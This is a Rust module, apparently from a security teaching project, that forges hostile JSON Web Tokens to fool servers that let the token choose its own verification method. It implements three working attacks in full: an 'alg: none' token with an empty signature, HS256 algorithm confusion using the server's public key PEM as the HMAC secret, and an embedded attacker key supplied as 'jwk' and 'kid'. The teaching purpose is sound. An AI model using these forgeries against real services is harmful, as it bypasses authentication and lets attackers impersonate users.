//! Hostile tokens for lessons. Each fools a server that lets a token choose how it is checked (RFC 8725 §2.1, §3.1).

use anyhow::{Context, Result};
use base64::{Engine, engine::general_purpose::URL_SAFE_NO_PAD};
use clap::ValueEnum;
use common::{claims::Claims, keys::KeyPair};
use jsonwebtoken::{Algorithm, EncodingKey, Header, crypto};
use rsa::pkcs8::{EncodePublicKey, LineEnding};
use serde_json::Value;

/// What is wrong with the token. Claims and `typ` are those of a good one.
#[derive(Clone, Copy, ValueEnum)]
pub enum Attack {
    /// The header says `alg: none`, and the signature is empty
    None,
    /// Signed with HMAC-SHA256, and the secret is the public key's PEM text, which everybody can have
    Hs256,
    /// Signed with a key that the attacker made: the header brings its public half as `jwk` and its thumbprint as `kid`
    Kid,
}

impl Attack {
    /// The token, and its header for people to see. `header`: that of a good token.
    pub fn token(self, header: &Header, claims: &Claims, keys: &KeyPair) -> Result<(Value, String)> {
        let mut header = serde_json::to_value(header)?;
        let signer = match self {
            Attack::None => {
                header["alg"] = "none".into();
                None
            }
            Attack::Hs256 => {
                header["alg"] = "HS256".into();
                let pem = keys.public.rsa.to_public_key_pem(LineEnding::LF).context("cannot write the key as PEM")?;
                Some((EncodingKey::from_secret(pem.as_bytes()), Algorithm::HS256))
            }
            Attack::Kid => {
                let folder = tempfile::tempdir().context("cannot make a folder for the attacker's key")?;
                let own = KeyPair::load_or_create(folder.path())?;
                header["kid"] = own.public.kid.clone().into();
                header["jwk"] = serde_json::to_value(&own.public.jwks().keys[0])?;
                Some((own.encoding_key, Algorithm::RS256))
            }
        };
        let message = format!("{}.{}", part(&header)?, part(claims)?);
        let signature = match signer {
            Some((key, algorithm)) => crypto::sign(message.as_bytes(), &key, algorithm)?,
            None => String::new(),
        };
        Ok((header, format!("{message}.{signature}")))
    }
}

fn part(content: &impl serde::Serialize) -> Result<String> {
    Ok(URL_SAFE_NO_PAD.encode(serde_json::to_vec(content)?))
}
